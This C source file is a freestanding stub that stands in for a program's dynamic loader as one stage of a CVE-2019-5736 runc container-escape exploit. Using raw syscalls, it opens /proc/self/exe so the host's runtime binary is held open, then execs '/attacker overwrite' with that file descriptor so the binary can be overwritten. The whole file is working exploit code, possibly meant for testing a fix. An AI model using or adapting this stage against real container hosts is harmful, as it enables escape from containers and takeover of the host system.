/*
 * Stands in for the dynamic loader of any program: the kernel starts it with that program as /proc/self/exe. It keeps
 * that file open and hands it to /attacker (CVE-2019-5736). No libc, which would take the program's headers for its own.
 */
#if defined(__x86_64__)
#define OPEN_AT 257
#define EXECVE 59
#define EXIT 60
static long call(long n, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return result;
}
#else
#define OPEN_AT 56
#define EXECVE 221
#define EXIT 93
static long call(long n, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = n;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
}
#endif

void _start(void)
{
	static char number[2] = "0";
	static char *argv[] = {"attacker", "overwrite", number, "5000", 0};
	static char *envp[] = {0};
	number[0] += (char)call(OPEN_AT, -100, (long)"/proc/self/exe", 0, 0);
	call(EXECVE, (long)"/attacker", (long)argv, (long)envp, 0);
	call(EXIT, 1, 0, 0, 0);
}
